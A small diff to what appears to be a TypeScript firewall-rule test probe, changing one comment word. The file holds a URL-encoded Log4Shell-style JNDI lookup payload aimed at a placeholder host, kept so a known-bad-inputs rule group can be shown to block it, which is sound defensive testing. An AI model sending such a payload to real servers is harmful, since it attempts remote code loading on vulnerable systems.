@@ -1,6 +1,6 @@
 import { expect, finding, type Probe } from '../../src/probes/probe.js';
 
-/** A string that the known-bad-inputs group refuses wherever it stands; it names nothing that exists. */
+/** A string that the known-bad-inputs group refuses wherever it appears; it names nothing that exists. */
 const ATTACK = '/?probe=%24%7Bjndi%3Aldap%3A%2F%2Fprobe.invalid%2Fa%7D';
 
 export const probe: Probe = {
